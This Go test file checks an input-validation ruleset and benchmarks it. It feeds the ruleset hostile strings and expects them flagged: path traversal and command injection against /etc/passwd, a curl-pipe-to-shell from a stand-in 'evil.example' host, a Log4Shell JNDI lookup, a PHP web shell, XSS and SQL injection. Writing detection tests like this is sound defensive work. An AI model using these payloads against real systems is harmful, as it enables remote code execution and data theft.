package queue

import (
	"strings"
	"sync"
	"testing"
)

var ruleset = sync.OnceValues(NewRuleset)

func TestTheFullRuleSetFindsWhatTheSearchForSQLAndScriptDoesNot(t *testing.T) {
	t.Parallel()
	r, err := ruleset()
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{
		"../../../../etc/passwd", "; cat /etc/passwd", "$(curl http://evil.example/x|sh)", "${jndi:ldap://evil.example/a}",
		"<?php system($_GET['c']); ?>", "<svg/onload=alert(1)>", "' UNION SELECT password FROM users -- ",
	} {
		// The last of many, too: the engine would drop it unseen.
		many := make([]named, 1500)
		for i := range many {
			many[i] = named{"params.x", "a word"}
		}
		many[1499] = named{"params.note", text}
		p := r.check(many[1490:])
		if p == nil || p.Status != 422 || p.Field != "params.note" || !strings.Contains(p.Detail, "rule 9") {
			t.Errorf("%s: %+v", text, p)
		}
		if text[0] == '.' && r.check(many) == nil {
			t.Errorf("%s behind 1499 others is not seen", text)
		}
	}
	for _, text := range []string{"a note about nothing in particular", "O'Brien & Sons", "50% off; today", "Zoë, 北京", "Call me at 5, or later"} {
		if p := r.check([]named{{"params.note", text}}); p != nil {
			t.Errorf("%s: %+v", text, p)
		}
	}
	if (*Ruleset)(nil).check([]named{{"x", "; cat /etc/passwd"}}) != nil {
		t.Error("rules that are not there find something")
	}
}

// The price of the rules, by the length of a text, next to the search that is
// always on: go test ./internal/queue -run '^$' -bench Suspicion
func BenchmarkSuspicion(b *testing.B) {
	r, err := ruleset()
	if err != nil {
		b.Fatal(err)
	}
	words := strings.Repeat("please deliver the goods to the second floor, ask for Mary. ", 100)
	for _, n := range []int{40, 1000, 5000} {
		text := words[:n]
		name := map[int]string{40: "40", 1000: "1000", 5000: "5000"}[n]
		b.Run("always/"+name, func(b *testing.B) {
			for b.Loop() {
				if suspicious(text) != nil {
					b.Fatal("found")
				}
			}
		})
		b.Run("rules/"+name, func(b *testing.B) {
			for b.Loop() {
				if p := r.check([]named{{"x", text}}); p != nil {
					b.Fatal(p)
				}
			}
		})
	}
}
